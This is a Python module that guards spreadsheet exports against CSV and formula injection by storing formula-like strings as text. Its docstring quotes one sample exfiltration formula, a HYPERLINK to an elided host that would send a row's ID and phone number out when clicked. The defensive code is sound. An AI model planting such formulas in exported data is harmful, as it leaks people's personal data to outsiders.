"""Spreadsheet exports (XLSX and CSV) hold data, never code.

Anyone can put text into an export: a self-registered name, a position, a follow-up, a
unit name. A value such as ``=HYPERLINK("http://…?"&B2&C2,"Buka data")`` must reach the
organiser's spreadsheet as the text the person typed, not as a live formula that
leaks the row's NIP and phone number when clicked (CSV or formula injection).

OWASP's rule, applied here and only here: every string value that starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return is written as text.

- CSV: the cell gets a leading single quote (``'=HYPERLINK(…)``, ``'+62812…``); a
  spreadsheet shows it as text and never evaluates it.
- XLSX: the cell is a string cell (``data_type 's'``, never ``'f'``) with Excel's
  ``quotePrefix`` style, so the value shown is exactly the person's text and editing
  the cell does not turn it into a formula either.

Numbers, dates and booleans stay what they are (a negative count is still a number);
a phone number ``+62…`` is text and stays text.

Every export in the project writes its rows through :func:`xlsx_append` (or
:func:`csv_writer` / :func:`csv_lines`) and saves through :func:`xlsx_save`, which
checks every cell of an ordinary workbook once more before writing the file.
tests/rakor/test_exports.py holds each export to it.
"""

from __future__ import annotations

import csv
import io
from typing import TYPE_CHECKING, Any, Iterable, Iterator

if TYPE_CHECKING:
    from openpyxl import Workbook

# openpyxl is imported where a workbook is made, not at start-up: it costs every process about
# 23 MB and 0.16 s, and most processes (check-in, portal) never write a spreadsheet.

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def is_formula_like(value: Any) -> bool:
    """True for a string a spreadsheet could take for a formula (OWASP's leading characters)."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def safe_cell(value: Any) -> Any:
    """The value as a CSV cell: a formula-like string gets a leading single quote; anything else is unchanged."""
    if is_formula_like(value):
        return "'" + value
    return value


# ---------------------------------------------------------------- CSV


class _SafeCsvWriter:
    """csv.writer whose every cell passes through :func:`safe_cell`."""

    def __init__(self, fileobj, **kwargs):
        self._writer = csv.writer(fileobj, **kwargs)

    def writerow(self, row: Iterable) -> Any:
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(fileobj, **kwargs) -> _SafeCsvWriter:
    """Like ``csv.writer(fileobj, **kwargs)``, with every value made safe."""
    return _SafeCsvWriter(fileobj, **kwargs)


def csv_lines(rows: Iterable[Iterable], *, bom: bool = True) -> Iterator[str]:
    """The rows as CSV text, one line at a time (for a streaming response), each value made safe.

    With ``bom`` the first line starts with a byte-order mark so that Excel reads the file as UTF-8.
    """
    buffer = io.StringIO()
    writer = csv_writer(buffer)
    first = bom
    for row in rows:
        writer.writerow(row)
        text = buffer.getvalue()
        buffer.seek(0)
        buffer.truncate(0)
        if first:
            text = "\ufeff" + text
            first = False
        yield text


# ---------------------------------------------------------------- XLSX


def new_workbook(*, write_only: bool = False) -> Workbook:
    """An empty workbook for an export (write-only mode streams big lists without holding them)."""
    from openpyxl import Workbook

    return Workbook(write_only=write_only)


def xlsx_text(cell):
    """Make a cell (ordinary or write-only) that holds a formula-like string a text cell; leave others alone."""
    if is_formula_like(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def xlsx_append(sheet, values: Iterable) -> None:
    """Append one row to `sheet` (ordinary or write-only), every formula-like string stored as text.

    `values` may mix plain values and cells already made for a write-only sheet (WriteOnlyCell, to
    carry a font or a number format).
    """
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import Cell  # WriteOnlyCell(…) makes one of these

    values = list(values)
    if sheet.parent.write_only:
        row = []
        for value in values:
            if isinstance(value, Cell):
                row.append(xlsx_text(value))
            elif is_formula_like(value):
                row.append(xlsx_text(WriteOnlyCell(sheet, value=value)))
            else:
                row.append(value)
        sheet.append(row)
        return
    sheet.append(values)
    if values:
        row = sheet.max_row  # the row just appended
        for column in range(1, len(values) + 1):
            xlsx_text(sheet.cell(row, column))


def xlsx_save(workbook: Workbook, target=None) -> bytes | None:
    """Save the workbook to `target` (a file object), or return its bytes.

    An ordinary workbook is swept once more first: a value put into a cell by any other means
    than :func:`xlsx_append` (``sheet["A1"] = …``) is stored as text too.
    """
    if not workbook.write_only:
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f" or is_formula_like(cell.value):
                        xlsx_text(cell)
    out = target if target is not None else io.BytesIO()
    workbook.save(out)
    return None if target is not None else out.getvalue()
